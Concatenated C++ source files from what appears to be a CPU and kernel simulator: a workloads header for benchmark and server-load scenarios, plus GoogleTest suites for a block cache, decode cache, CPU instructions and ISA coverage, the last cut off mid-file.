    UnixBench::kPipeContextSwitch, UnixBench::kProcessCreation,
    UnixBench::kExecl,          UnixBench::kFilesystem,
    UnixBench::kFileRead,
};
const char* to_string(UnixBench b);

WorkloadResult run_unixbench(UnixBench bench, const Protection& prot,
                             u32 iterations = 0 /* 0 = default */);

// Geometric-mean index over the whole suite, normalized against the
// unprotected run (the paper's single "Unixbench" bar in Fig. 6).
double unixbench_index(const Protection& prot);

// --- webserver ------------------------------------------------------------

struct WebserverConfig {
  u32 workers = 4;          // Apache-style worker processes
  u32 requests = 64;        // total requests issued by the driver
  u32 response_bytes = 32 * 1024;  // the "page size" served (Figs. 6-8)
  metrics::CostModel cost{};       // net model comes from here
};

struct WebserverResult {
  WorkloadResult base;      // cycles etc.
  u64 bytes_served = 0;
  double requests_per_mcycle = 0;  // incl. the network saturation model
};

WebserverResult run_webserver(const Protection& prot,
                              const WebserverConfig& cfg = {});

// --- high-traffic server (event-driven master + worker pool) --------------
//
// The production-shaped scaling scenario: one master process multiplexes a
// listening channel and a shared response pipe with select2, forwards each
// request (stamped with SYS_TIME) down a shared request pipe to a pool of
// hundreds-to-thousands of forked workers, and reports the per-request
// round-trip latency back to the host, which accumulates it into a
// log-bucketed histogram. Everything measured is simulated cycles, so a
// run is a pure function of its config — deterministic across hosts and
// --jobs.
struct ServerLoadConfig {
  u32 workers = 64;       // forked worker processes
  u32 requests = 2000;    // total requests in the seeded stream
  u32 window = 256;       // max requests in flight (closed loop). Bounded
                          // by pipe framing: window*12 must leave room for
                          // one whole record in a 64 KiB pipe (<= 5460).
  u32 work_base = 64;     // base service-loop iterations per request
  arch::u64 seed = 0x5eedf00d;  // request-stream PRNG seed
  u32 phys_frames = 32768;      // 128 MiB: ~1000 workers of COW pages, x2
                                // under a splitting engine
  u32 cores = 1;                // simulated cores (1 = the historical
                                // single-core run, byte-identical)
  metrics::CostModel cost{};
};

struct ServerLoadResult {
  WorkloadResult base;
  metrics::LatencyHistogram latency;  // per-request round trip, in cycles
  u64 requests_completed = 0;
  double requests_per_mcycle = 0;
};

ServerLoadResult run_server_load(const Protection& prot,
                                 const ServerLoadConfig& cfg = {});

// --- overload server (open-loop arrivals, shedding, retry) ----------------
//
// The graceful-degradation scenario: the host issues requests on an
// OPEN-LOOP schedule (seeded exponential inter-arrivals at a configured
// offered rate, independent of completions), so past saturation the
// server must shed rather than lag. The master applies admission control
// (bounded in-flight queue, deadline-based drop of stale arrivals) and
// collects worker responses over the simulated socket layer: each worker
// delivers its response on a fresh connect() to the master's listening
// port, retrying with exponential backoff + seeded jitter when the accept
// backlog refuses it, and dropping the response after max_attempts.
// Deadline timers bound every blocking wait in the master's event loop so
// a stalled worker degrades goodput instead of wedging it.
struct OverloadConfig {
  u32 workers = 16;        // forked worker processes
  u32 arrivals = 400;      // total arrivals in the open-loop stream
  double offered_rpmc = 40.0;  // offered load, requests per mega-cycle
  u32 qdepth = 48;         // master admission bound (in-flight cap)
  u32 backlog = 4;         // listen-socket accept backlog capacity
  u32 deadline = 300000;   // admission deadline, cycles since arrival
  u32 recv_timeout = 60000;    // master accept/read deadline, cycles
  u32 select_timeout = 30000;  // master event-loop tick, cycles
  u32 max_attempts = 6;    // worker connect attempts before dropping
  u32 backoff_base = 1000;     // first retry backoff, cycles (doubles)
  u32 jitter_mask = 1023;  // seeded jitter added per retry (rand & mask)
  u32 work_base = 64;      // base service-loop iterations per request
  arch::u64 seed = 0x5eedf00d;  // arrival-stream PRNG seed
  u32 phys_frames = 32768;
  u32 cores = 1;
  metrics::CostModel cost{};
};

struct OverloadResult {
  WorkloadResult base;
  metrics::LatencyHistogram latency;  // arrival-to-response, completed only
  u64 arrivals_issued = 0;
  u64 completed = 0;        // responses that made it back (goodput)
  u64 shed_queue = 0;       // dropped at admission: in-flight cap hit
  u64 shed_deadline = 0;    // dropped at admission: already past deadline
  u64 worker_drops = 0;     // dropped by a worker after max_attempts
  u64 lost_responses = 0;   // master gave up waiting (lease/read timeout)
  u64 retries = 0;          // refused connect() attempts (retry pressure)
  double offered_rpmc = 0;  // echo of the configured offered rate
  double goodput_rpmc = 0;  // completed per mega-cycle actually achieved
};

OverloadResult run_overload_load(const Protection& prot,
                                 const OverloadConfig& cfg = {});

}  // namespace sm::workloads
