// The basic-block cache (mini-DBT) over the decode cache: block
// formation and chained dispatch, the mid-block self-modifying-code
// guard, budget clipping at preemption boundaries, the no-straddle rule
// for block entries, and — the acceptance bar for the whole engine —
// that a block dispatch bills simulated stats exactly like the
// per-instruction interpreter it short-circuits.
#include "arch/block_cache.h"

#include <gtest/gtest.h>

#include <initializer_list>
#include <stdexcept>
#include <tuple>

#include "arch/cpu.h"

namespace sm::arch {
namespace {

// A full CPU rig (physical memory, page table, MMU) — a plain struct so
// identity tests can instantiate two and drive them in lockstep.
struct Rig {
  metrics::Stats stats;
  metrics::CostModel cost;
  PhysicalMemory pm{64};
  Mmu mmu{pm, stats, cost};
  Cpu cpu{mmu, stats, cost};
  u32 frames[8] = {};

  Rig() {
    const u32 root = PageTable::create(pm);
    PageTable pt(pm, root);
    for (u32 i = 1; i < 8; ++i) {
      frames[i] = pm.alloc_frame();
      pt.set(i * kPageSize,
             Pte::make(frames[i], Pte::kPresent | Pte::kUser | Pte::kWritable));
    }
    mmu.set_cr3(root);
    cpu.regs().pc = 0x1000;
    cpu.regs().sp() = 0x7000;
  }

  u64 pa(u32 frame_idx, u32 off) {
    return static_cast<u64>(frames[frame_idx]) * kPageSize + off;
  }

  // Raw instruction emitter at physical offset `off` of frame `f`;
  // returns the offset just past the emitted bytes.
  u32 emit(u32 f, u32 off, std::initializer_list<u8> bytes) {
    u32 o = off;
    for (u8 b : bytes) pm.write8(pa(f, o++), b);
    return o;
  }

  // The BM_CpuStepCached workload: a 5-instruction straight-line block
  // ending in a back-edge to 0x1000.
  void emit_loop() {
    u32 o = 0;
    o = emit(1, o, {0x19, 0, 1, 0, 0, 0});  // addi r0, 1
    o = emit(1, o, {0x02, 1, 0});           // mov r1, r0
    o = emit(1, o, {0x10, 1, 1});           // add r1, r1
    o = emit(1, o, {0x1A, 0, 1});           // cmp r0, r1
    emit(1, o, {0x20, 0x00, 0x10, 0, 0});   // jmp 0x1000
  }

  auto sim_stats() {
    // The simulated subset only: host-side fast-path counters are allowed
    // (expected) to differ between the engines.
    return std::tuple{stats.cycles,      stats.instructions,
                      stats.itlb_hits,   stats.itlb_misses,
                      stats.dtlb_hits,   stats.dtlb_misses,
                      stats.hardware_walks, stats.page_faults};
  }
};

class BlockCacheTest : public ::testing::Test {
 protected:
  Rig r_;
};

TEST_F(BlockCacheTest, SecondDispatchHitsAndChainsWithinBudget) {
  r_.emit_loop();
  // First dispatch: the recording pass covers the 5-instruction block
  // (one miss), then the chain re-enters it from the back-edge and runs
  // it from the cache until the budget is spent.
  const auto bs = r_.cpu.step_block(25);
  EXPECT_EQ(bs.attempts, 25u);
  EXPECT_FALSE(bs.trap.has_value());
  EXPECT_EQ(r_.stats.block_cache_misses, 1u);
  EXPECT_EQ(r_.stats.block_cache_hits, 4u);
  EXPECT_EQ(r_.stats.block_cache_invalidations, 0u);
  // Only the cached re-executions count as block instructions; the
  // recording pass went through the per-instruction machinery.
  EXPECT_EQ(r_.stats.block_instructions, 20u);
  EXPECT_EQ(r_.stats.instructions, 25u);
  EXPECT_EQ(r_.cpu.regs().r[0], 5u);
}

TEST_F(BlockCacheTest, MidBlockSmcInvalidatesAndExecutesNewBytes) {
  // A block whose second instruction stores through r1. On the first
  // pass r1 points at a data page, so a clean 4-instruction block is
  // recorded. Then r1 is aimed at the immediate byte of the block's OWN
  // third instruction: the cached run must detect the generation bump
  // mid-block, abandon the stale decodes, and execute the rewritten
  // bytes — exactly what the per-instruction engine's decode-cache
  // generation check would have done.
  u32 o = 0;
  o = r_.emit(1, o, {0x01, 0, 77, 0, 0, 0});     // 0x1000: movi r0, 77
  o = r_.emit(1, o, {0x06, 1, 0, 0, 0, 0, 0});   // 0x1006: storeb [r1], r0
  o = r_.emit(1, o, {0x01, 2, 11, 0, 0, 0});     // 0x100D: movi r2, 11
  r_.emit(1, o, {0x20, 0x00, 0x10, 0, 0});       // 0x1013: jmp 0x1000

  r_.cpu.regs().r[1] = 0x3000;  // harmless data page
  auto bs = r_.cpu.step_block(4);
  EXPECT_EQ(bs.attempts, 4u);
  EXPECT_EQ(r_.cpu.regs().r[2], 11u);
  EXPECT_EQ(r_.stats.block_cache_misses, 1u);

  // Aim the store at the movi's immediate byte (0x100D + 2) and rerun
  // from the cached block.
  r_.cpu.regs().r[1] = 0x100F;
  bs = r_.cpu.step_block(4);
  EXPECT_EQ(bs.attempts, 4u);
  EXPECT_EQ(r_.cpu.regs().r[2], 77u)
      << "stale decode executed after mid-block SMC";
  EXPECT_EQ(r_.stats.block_cache_hits, 1u);
  EXPECT_GE(r_.stats.block_cache_invalidations, 1u);
  // The killed block re-records from the rewritten bytes.
  EXPECT_EQ(r_.stats.block_cache_misses, 2u);
}

TEST_F(BlockCacheTest, BudgetClipsMidBlock) {
  r_.emit_loop();
  ASSERT_EQ(r_.cpu.step_block(5).attempts, 5u);  // record the block
  // A 2-instruction budget must stop the cached block exactly where the
  // per-instruction loop would have: preemption timing is architectural.
  const auto bs = r_.cpu.step_block(2);
  EXPECT_EQ(bs.attempts, 2u);
  EXPECT_EQ(r_.cpu.regs().pc, 0x1009u);  // after addi (6) + mov (3)
  EXPECT_EQ(r_.cpu.regs().r[1], r_.cpu.regs().r[0]);
}

TEST_F(BlockCacheTest, StraddlingEntryIsNeverCached) {
  // movi spanning the 0x1000/0x2000 boundary as a block ENTRY: its tail
  // bytes live in a frame the entry generation cannot cover, so it must
  // never be recorded — every dispatch takes the recording path.
  const u32 base = kPageSize - 3;
  r_.emit(1, base, {0x01, 1, 44});
  r_.emit(2, 0, {0, 0, 0});
  r_.emit(2, 3, {0x20, 0xFD, 0x1F, 0, 0});  // jmp 0x1FFD (back-edge)

  r_.cpu.regs().pc = 0x2000 - 3;
  const auto bs = r_.cpu.step_block(6);  // three loop trips
  EXPECT_EQ(bs.attempts, 6u);
  EXPECT_EQ(r_.cpu.regs().r[1], 44u);
  // The jmp forms its own (cachable) single-instruction block and hits
  // from the second trip on; every visit to the straddler is a miss.
  EXPECT_EQ(r_.stats.block_cache_misses, 4u);
  EXPECT_EQ(r_.stats.block_cache_hits, 2u);
}

TEST_F(BlockCacheTest, BillsExactlyWhatTheInterpreterWould) {
  // Drive the same program through Cpu::step() on one rig and
  // Cpu::step_block() on another: every simulated stat — cycles
  // included — and the architectural state must match bit for bit.
  // Raise the TLB-hit cost from its default 0 so the wholesale billing
  // actually multiplies something observable.
  Rig interp;
  interp.cost.tlb_hit = 2;
  r_.cost.tlb_hit = 2;
  interp.emit_loop();
  r_.emit_loop();

  for (int i = 0; i < 40; ++i) {
    ASSERT_FALSE(interp.cpu.step().has_value());
  }
  u64 attempts = 0;
  while (attempts < 40) attempts += r_.cpu.step_block(40 - attempts).attempts;

  EXPECT_EQ(r_.sim_stats(), interp.sim_stats());
  EXPECT_GT(r_.stats.block_instructions, 0u);
  EXPECT_EQ(interp.stats.block_instructions, 0u);
  EXPECT_EQ(r_.cpu.regs().pc, interp.cpu.regs().pc);
  EXPECT_EQ(r_.cpu.regs().flags, interp.cpu.regs().flags);
  for (u32 i = 0; i < kNumRegs; ++i) {
    EXPECT_EQ(r_.cpu.regs().r[i], interp.cpu.regs().r[i]) << "r" << i;
  }
}

TEST_F(BlockCacheTest, FaultingInstructionRollsBackMidBlock) {
  // Block: addi ; load from an unmapped page ; jmp. The load faults on
  // the cached run; the CPU must restore the pre-instruction state so
  // the kernel can service and restart, exactly like step().
  u32 o = 0;
  o = r_.emit(1, o, {0x19, 0, 1, 0, 0, 0});            // addi r0, 1
  o = r_.emit(1, o, {0x03, 2, 1, 0, 0, 0, 0});         // load r2, [r1]
  r_.emit(1, o, {0x20, 0x00, 0x10, 0, 0});             // jmp 0x1000

  r_.cpu.regs().r[1] = 0x3000;  // mapped: records a clean block
  ASSERT_FALSE(r_.cpu.step_block(3).trap.has_value());

  r_.cpu.regs().r[1] = 0x9000;  // unmapped: faults mid-block
  const auto bs = r_.cpu.step_block(3);
  ASSERT_TRUE(bs.trap.has_value());
  EXPECT_EQ(bs.trap->kind, TrapKind::kPageFault);
  EXPECT_EQ(bs.trap->pf.addr, 0x9000u);
  EXPECT_EQ(bs.attempts, 2u);  // addi retired, load attempted
  EXPECT_EQ(r_.cpu.regs().pc, 0x1006u) << "pc must point at the load";
  EXPECT_EQ(r_.cpu.regs().r[0], 2u) << "addi before the fault retired";
}

TEST(BlockCacheUnit, RejectsNonPowerOfTwoSize) {
  EXPECT_THROW(BlockCache(3), std::invalid_argument);
  EXPECT_NO_THROW(BlockCache(8));
}

}  // namespace
}  // namespace sm::arch
