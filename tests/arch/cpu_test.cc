// CPU/ISA unit tests: instructions execute against an identity-mapped
// address space; faults roll state back for precise restart.
#include "arch/cpu.h"

#include <gtest/gtest.h>

#include "arch/isa.h"

namespace sm::arch {
namespace {

class CpuTest : public ::testing::Test {
 protected:
  CpuTest() : pm_(64), mmu_(pm_, stats_, cost_), cpu_(mmu_, stats_, cost_) {
    // Identity-map the first 16 pages, user-writable.
    const u32 root = PageTable::create(pm_);
    PageTable pt(pm_, root);
    for (u32 i = 0; i < 16; ++i) {
      const u32 frame = pm_.alloc_frame();
      pt.set(i * kPageSize,
             Pte::make(frame, Pte::kPresent | Pte::kUser | Pte::kWritable));
      frames_[i] = frame;
    }
    mmu_.set_cr3(root);
    cpu_.regs().pc = 0x1000;
    cpu_.regs().sp() = 0x8000;
  }

  // Writes code bytes at vaddr 0x1000 via the frames directly.
  void code(std::initializer_list<u8> bytes) {
    u32 off = 0;
    for (u8 b : bytes) pm_.frame_bytes(frames_[1])[off++] = b;
  }

  std::optional<Trap> step() { return cpu_.step(); }

  metrics::Stats stats_;
  metrics::CostModel cost_;
  PhysicalMemory pm_;
  Mmu mmu_;
  Cpu cpu_;
  u32 frames_[16];
};

TEST_F(CpuTest, MoviMovAdd) {
  code({0x01, 0, 5, 0, 0, 0,    // movi r0, 5
        0x02, 1, 0,             // mov r1, r0
        0x10, 1, 0});           // add r1, r0
  EXPECT_FALSE(step().has_value());
  EXPECT_FALSE(step().has_value());
  EXPECT_FALSE(step().has_value());
  EXPECT_EQ(cpu_.regs().r[1], 10u);
  EXPECT_EQ(cpu_.regs().pc, 0x1000u + 6 + 3 + 3);
}

TEST_F(CpuTest, LoadStoreRoundTrip) {
  code({0x01, 0, 0x44, 0x33, 0x22, 0x11,  // movi r0, 0x11223344
        0x01, 1, 0x00, 0x20, 0, 0,        // movi r1, 0x2000
        0x04, 1, 0, 4, 0, 0, 0,           // store [r1+4], r0
        0x03, 2, 1, 4, 0, 0, 0});         // load r2, [r1+4]
  for (int i = 0; i < 4; ++i) EXPECT_FALSE(step().has_value());
  EXPECT_EQ(cpu_.regs().r[2], 0x11223344u);
  EXPECT_EQ(pm_.frame_bytes(frames_[2])[4], 0x44);
}

TEST_F(CpuTest, ByteOpsZeroExtend) {
  code({0x01, 0, 0xFF, 0x12, 0, 0,       // movi r0, 0x12FF
        0x01, 1, 0x00, 0x20, 0, 0,       // movi r1, 0x2000
        0x06, 1, 0, 0, 0, 0, 0,          // storeb [r1], r0
        0x05, 2, 1, 0, 0, 0, 0});        // loadb r2, [r1]
  for (int i = 0; i < 4; ++i) EXPECT_FALSE(step().has_value());
  EXPECT_EQ(cpu_.regs().r[2], 0xFFu);
}

TEST_F(CpuTest, CallRetUseStack) {
  // call 0x1100; (at 0x1100) ret
  code({0x30, 0x00, 0x11, 0, 0});
  pm_.frame_bytes(frames_[1])[0x100] = 0x32;  // ret
  EXPECT_FALSE(step().has_value());
  EXPECT_EQ(cpu_.regs().pc, 0x1100u);
  EXPECT_EQ(cpu_.regs().sp(), 0x8000u - 4);
  EXPECT_FALSE(step().has_value());
  EXPECT_EQ(cpu_.regs().pc, 0x1005u);
  EXPECT_EQ(cpu_.regs().sp(), 0x8000u);
}

TEST_F(CpuTest, CmpBranches) {
  code({0x01, 0, 3, 0, 0, 0,    // movi r0, 3
        0x1B, 0, 5, 0, 0, 0,    // cmpi r0, 5
        0x23, 0x00, 0x20, 0, 0});  // jlt 0x2000
  step();
  step();
  EXPECT_FALSE(step().has_value());
  EXPECT_EQ(cpu_.regs().pc, 0x2000u);
}

TEST_F(CpuTest, UnsignedComparisonFlags) {
  // 0xFFFFFFFF unsigned-above 1, signed-less-than 1.
  code({0x01, 0, 0xFF, 0xFF, 0xFF, 0xFF,  // movi r0, -1
        0x1B, 0, 1, 0, 0, 0,              // cmpi r0, 1
        0x25, 0x00, 0x20, 0, 0,           // jb 0x2000 (not taken)
        0x23, 0x00, 0x30, 0, 0});         // jlt 0x3000 (taken)
  step();
  step();
  step();
  EXPECT_EQ(cpu_.regs().pc, 0x1000u + 6 + 6 + 5);
  step();
  EXPECT_EQ(cpu_.regs().pc, 0x3000u);
}

TEST_F(CpuTest, InvalidOpcodeFaultsWithoutAdvancing) {
  code({0x00});
  const auto trap = step();
  ASSERT_TRUE(trap.has_value());
  EXPECT_EQ(trap->kind, TrapKind::kInvalidOpcode);
  EXPECT_EQ(trap->opcode, 0x00);
  EXPECT_EQ(cpu_.regs().pc, 0x1000u);  // precise: pc at faulting insn
}

TEST_F(CpuTest, DivideByZeroFaults) {
  code({0x01, 0, 8, 0, 0, 0,  // movi r0, 8
        0x13, 0, 1});         // div r0, r1 (r1 == 0)
  step();
  const auto trap = step();
  ASSERT_TRUE(trap.has_value());
  EXPECT_EQ(trap->kind, TrapKind::kDivideByZero);
  EXPECT_EQ(cpu_.regs().r[0], 8u);  // unchanged
}

TEST_F(CpuTest, SyscallAdvancesPcAndTraps) {
  code({0x40});
  const auto trap = step();
  ASSERT_TRUE(trap.has_value());
  EXPECT_EQ(trap->kind, TrapKind::kSyscall);
  EXPECT_EQ(cpu_.regs().pc, 0x1001u);
}

TEST_F(CpuTest, PageFaultRollsBackPartialState) {
  // pop r0 then a store to an unmapped page: regs must be untouched.
  code({0x01, 1, 0x00, 0x00, 0xF0, 0,   // movi r1, 0xF00000 (unmapped)
        0x04, 1, 0, 0, 0, 0, 0});       // store [r1], r0
  step();
  const u32 sp_before = cpu_.regs().sp();
  const auto trap = step();
  ASSERT_TRUE(trap.has_value());
  EXPECT_EQ(trap->kind, TrapKind::kPageFault);
  EXPECT_EQ(trap->pf.addr, 0xF00000u);
  EXPECT_TRUE(trap->pf.write);
  EXPECT_FALSE(trap->pf.fetch);
  EXPECT_EQ(cpu_.regs().sp(), sp_before);
  EXPECT_EQ(cpu_.regs().pc, 0x1006u);  // at the store, not after
}

TEST_F(CpuTest, FetchFaultReportsFetchBit) {
  cpu_.regs().pc = 0xF00000;
  const auto trap = step();
  ASSERT_TRUE(trap.has_value());
  EXPECT_EQ(trap->kind, TrapKind::kPageFault);
  EXPECT_TRUE(trap->pf.fetch);
  EXPECT_EQ(trap->pf.addr, 0xF00000u);
}

TEST_F(CpuTest, TrapFlagSingleSteps) {
  code({0x90, 0x90});  // nop; nop
  cpu_.regs().set_tf(true);
  const auto trap = step();
  ASSERT_TRUE(trap.has_value());
  EXPECT_EQ(trap->kind, TrapKind::kDebugStep);
  EXPECT_EQ(cpu_.regs().pc, 0x1001u);  // instruction DID complete
  cpu_.regs().set_tf(false);
  EXPECT_FALSE(step().has_value());
}

TEST_F(CpuTest, PushPopRoundTrip) {
  code({0x01, 3, 0xEF, 0xBE, 0, 0,  // movi r3, 0xBEEF
        0x33, 3,                    // push r3
        0x34, 4});                  // pop r4
  step();
  step();
  step();
  EXPECT_EQ(cpu_.regs().r[4], 0xBEEFu);
  EXPECT_EQ(cpu_.regs().sp(), 0x8000u);
}

TEST_F(CpuTest, IndirectJumpAndCall) {
  code({0x01, 2, 0x00, 0x30, 0, 0,  // movi r2, 0x3000
        0x31, 2});                  // callr r2
  step();
  step();
  EXPECT_EQ(cpu_.regs().pc, 0x3000u);
  // Return address on stack is after the callr.
  EXPECT_EQ(pm_.read32(static_cast<u64>(frames_[7]) * kPageSize + 0xFFC),
            0x1008u);
}

TEST_F(CpuTest, BadRegisterFaultsGeneralProtection) {
  code({0x02, 9, 0});  // mov r9, r0 — no such register
  const auto trap = step();
  ASSERT_TRUE(trap.has_value());
  EXPECT_EQ(trap->kind, TrapKind::kGeneralProtection);
}

TEST_F(CpuTest, ShiftAndLogicOps) {
  code({0x01, 0, 0xF0, 0, 0, 0,  // movi r0, 0xF0
        0x01, 1, 4, 0, 0, 0,     // movi r1, 4
        0x18, 0, 1,              // shr r0, r1 -> 0xF
        0x17, 0, 1,              // shl r0, r1 -> 0xF0
        0x1C, 0});               // not r0
  for (int i = 0; i < 5; ++i) EXPECT_FALSE(step().has_value());
  EXPECT_EQ(cpu_.regs().r[0], ~0xF0u);
}

}  // namespace
}  // namespace sm::arch
