// The physically-keyed decoded-instruction cache: hit/miss/invalidate
// behaviour, generation-counter coherence with every code-frame mutation
// path, the no-straddle rule, and — most importantly — that the fast path
// bills simulated costs exactly like the slow path it short-circuits.
#include "arch/decode_cache.h"

#include <gtest/gtest.h>

#include <stdexcept>
#include <tuple>

#include "arch/cpu.h"

namespace sm::arch {
namespace {

class DecodeCacheTest : public ::testing::Test {
 protected:
  DecodeCacheTest()
      : pm_(64), mmu_(pm_, stats_, cost_), cpu_(mmu_, stats_, cost_) {
    const u32 root = PageTable::create(pm_);
    PageTable pt(pm_, root);
    for (u32 i = 1; i < 8; ++i) {
      frames_[i] = pm_.alloc_frame();
      pt.set(i * kPageSize,
             Pte::make(frames_[i], Pte::kPresent | Pte::kUser | Pte::kWritable));
    }
    mmu_.set_cr3(root);
    cpu_.regs().pc = 0x1000;
    cpu_.regs().sp() = 0x7000;
  }

  // movi r1, <imm8> at physical offset `off` of frame `f`.
  void put_movi(u32 f, u32 off, u8 imm) {
    const u64 pa = static_cast<u64>(frames_[f]) * kPageSize + off;
    pm_.write8(pa + 0, 0x01);
    pm_.write8(pa + 1, 1);
    pm_.write8(pa + 2, imm);
    pm_.write8(pa + 3, 0);
    pm_.write8(pa + 4, 0);
    pm_.write8(pa + 5, 0);
  }

  metrics::Stats stats_;
  metrics::CostModel cost_;
  PhysicalMemory pm_;
  Mmu mmu_;
  Cpu cpu_;
  u32 frames_[8];
};

TEST_F(DecodeCacheTest, SecondExecutionHits) {
  put_movi(1, 0, 7);
  EXPECT_FALSE(cpu_.step().has_value());
  EXPECT_EQ(stats_.decode_cache_misses, 1u);
  EXPECT_EQ(stats_.decode_cache_hits, 0u);

  cpu_.regs().pc = 0x1000;
  EXPECT_FALSE(cpu_.step().has_value());
  EXPECT_EQ(stats_.decode_cache_hits, 1u);
  EXPECT_EQ(stats_.decode_cache_misses, 1u);
  EXPECT_EQ(cpu_.regs().r[1], 7u);
}

TEST_F(DecodeCacheTest, PhysWriteToCodeFrameInvalidates) {
  put_movi(1, 0, 11);
  EXPECT_FALSE(cpu_.step().has_value());
  EXPECT_EQ(cpu_.regs().r[1], 11u);

  // Self-modifying code: rewrite the immediate byte through physical
  // memory (as a guest store through the D-TLB would) and re-execute.
  pm_.write8(static_cast<u64>(frames_[1]) * kPageSize + 2, 22);
  cpu_.regs().pc = 0x1000;
  EXPECT_FALSE(cpu_.step().has_value());
  EXPECT_EQ(cpu_.regs().r[1], 22u);  // the NEW bytes executed
  EXPECT_GE(stats_.decode_cache_invalidations, 1u);
}

TEST_F(DecodeCacheTest, MutableFrameViewInvalidates) {
  put_movi(1, 0, 11);
  EXPECT_FALSE(cpu_.step().has_value());

  // Kernel-style mutation: loader/exec/split-engine copies go through the
  // mutable frame_bytes() view, which must also kill cached decodes.
  pm_.frame_bytes(frames_[1])[2] = 33;
  cpu_.regs().pc = 0x1000;
  EXPECT_FALSE(cpu_.step().has_value());
  EXPECT_EQ(cpu_.regs().r[1], 33u);
}

TEST_F(DecodeCacheTest, StraddlingInstructionIsNeverCached) {
  // movi spanning the 0x1000/0x2000 page boundary: starts 3 bytes before
  // the end of frame 1, tail lives in frame 2.
  const u64 base = static_cast<u64>(frames_[1]) * kPageSize + kPageSize - 3;
  pm_.write8(base + 0, 0x01);
  pm_.write8(base + 1, 1);
  pm_.write8(base + 2, 44);
  const u64 tail = static_cast<u64>(frames_[2]) * kPageSize;
  pm_.write8(tail + 0, 0);
  pm_.write8(tail + 1, 0);
  pm_.write8(tail + 2, 0);

  cpu_.regs().pc = 0x2000 - 3;
  EXPECT_FALSE(cpu_.step().has_value());
  EXPECT_EQ(cpu_.regs().r[1], 44u);
  const auto misses = stats_.decode_cache_misses;
  cpu_.regs().pc = 0x2000 - 3;
  EXPECT_FALSE(cpu_.step().has_value());
  // Re-executed, still a miss: straddlers take the slow path every time.
  EXPECT_EQ(stats_.decode_cache_misses, misses + 1);
  EXPECT_EQ(stats_.decode_cache_hits, 0u);
}

TEST_F(DecodeCacheTest, PhysicallyKeyedSharedFrameSharesDecodes) {
  // Map a second virtual page onto frame 1 (as fork/shared text does).
  PageTable pt(pm_, mmu_.cr3());
  pt.set(0x5000, Pte::make(frames_[1], Pte::kPresent | Pte::kUser));
  pm_.ref_frame(frames_[1]);
  put_movi(1, 0, 9);

  cpu_.regs().pc = 0x1000;
  EXPECT_FALSE(cpu_.step().has_value());
  EXPECT_EQ(stats_.decode_cache_misses, 1u);

  // Different virtual address, same physical location: the decode is
  // already cached.
  cpu_.regs().pc = 0x5000;
  EXPECT_FALSE(cpu_.step().has_value());
  EXPECT_EQ(stats_.decode_cache_hits, 1u);
  EXPECT_EQ(stats_.decode_cache_misses, 1u);
}

TEST_F(DecodeCacheTest, HitBillsExactlyWhatTheSlowPathWould) {
  // The acceptance bar for the whole optimisation: simulated figures are
  // bit-identical, i.e. a decode-cache hit bills the same cycles and TLB
  // events as a warm-TLB re-decode of the same instruction.
  put_movi(1, 0, 5);
  EXPECT_FALSE(cpu_.step().has_value());  // cold: fill TLB + cache

  auto snap = [&] {
    return std::tuple{stats_.cycles, stats_.itlb_hits, stats_.itlb_misses,
                      stats_.hardware_walks, stats_.instructions};
  };

  cpu_.regs().pc = 0x1000;
  const auto before_hit = snap();
  EXPECT_FALSE(cpu_.step().has_value());  // decode-cache hit
  const auto after_hit = snap();
  EXPECT_EQ(stats_.decode_cache_hits, 1u);

  // Rewrite the immediate with the SAME value: semantics unchanged, but
  // the generation bump forces the slow byte-at-a-time path with a warm
  // TLB — precisely what the hit short-circuited.
  pm_.write8(static_cast<u64>(frames_[1]) * kPageSize + 2, 5);
  cpu_.regs().pc = 0x1000;
  const auto before_slow = snap();
  EXPECT_FALSE(cpu_.step().has_value());
  const auto after_slow = snap();
  EXPECT_GE(stats_.decode_cache_invalidations, 1u);

  auto delta = [](const auto& a, const auto& b) {
    return std::tuple{std::get<0>(b) - std::get<0>(a),
                      std::get<1>(b) - std::get<1>(a),
                      std::get<2>(b) - std::get<2>(a),
                      std::get<3>(b) - std::get<3>(a),
                      std::get<4>(b) - std::get<4>(a)};
  };
  EXPECT_EQ(delta(before_hit, after_hit), delta(before_slow, after_slow));
}

TEST_F(DecodeCacheTest, ClearDropsAllEntries) {
  put_movi(1, 0, 7);
  EXPECT_FALSE(cpu_.step().has_value());
  cpu_.decode_cache().clear();
  cpu_.regs().pc = 0x1000;
  EXPECT_FALSE(cpu_.step().has_value());
  EXPECT_EQ(stats_.decode_cache_hits, 0u);
  EXPECT_EQ(stats_.decode_cache_misses, 2u);
}

TEST(DecodeCacheUnit, RejectsNonPowerOfTwoSize) {
  EXPECT_THROW(DecodeCache(3), std::invalid_argument);
  EXPECT_NO_THROW(DecodeCache(8));
}

}  // namespace
}  // namespace sm::arch
