// Exhaustive ISA semantics coverage: every opcode executed end-to-end
// through the assembler + kernel (so encoding, decoding and execution are
// all exercised together), each with a value-revealing assertion.
#include <gtest/gtest.h>

#include "arch/isa.h"
#include "fuzz/generator.h"
#include "support/guest_runner.h"

namespace sm {
namespace {

using arch::u32;
using core::ProtectionMode;

// Runs `body` (which must end by exiting with the value under test in r1)
// and returns the exit code.
u32 run_to_exit(const std::string& body) {
  auto r = testing::run_guest(body, ProtectionMode::kNone);
  EXPECT_EQ(r.proc().exit_kind, kernel::ExitKind::kExited)
      << "program did not exit cleanly";
  return r.proc().exit_code;
}

u32 alu_case(const std::string& op, u32 a, u32 b) {
  return run_to_exit("_start:\n  movi r1, " + std::to_string(a) +
                     "\n  movi r2, " + std::to_string(b) + "\n  " + op +
                     " r1, r2\n  movi r0, SYS_EXIT\n  syscall\n");
}

TEST(IsaCoverage, Add) { EXPECT_EQ(alu_case("add", 7, 9), 16u); }
TEST(IsaCoverage, AddWraps) {
  EXPECT_EQ(alu_case("add", 0xFFFFFFFF, 2), 1u);
}
TEST(IsaCoverage, Sub) { EXPECT_EQ(alu_case("sub", 9, 7), 2u); }
TEST(IsaCoverage, SubUnderflowWraps) {
  EXPECT_EQ(alu_case("sub", 3, 5), 0xFFFFFFFEu);
}
TEST(IsaCoverage, Mul) { EXPECT_EQ(alu_case("mul", 1000, 1000), 1000000u); }
TEST(IsaCoverage, DivUnsigned) {
  EXPECT_EQ(alu_case("div", 0xFFFFFFFE, 2), 0x7FFFFFFFu);
}
TEST(IsaCoverage, Modu) { EXPECT_EQ(alu_case("modu", 103, 10), 3u); }
TEST(IsaCoverage, And) { EXPECT_EQ(alu_case("and", 0xF0F0, 0x0FF0), 0x00F0u); }
TEST(IsaCoverage, Or) { EXPECT_EQ(alu_case("or", 0xF000, 0x000F), 0xF00Fu); }
TEST(IsaCoverage, Xor) { EXPECT_EQ(alu_case("xor", 0xFF00, 0x0FF0), 0xF0F0u); }
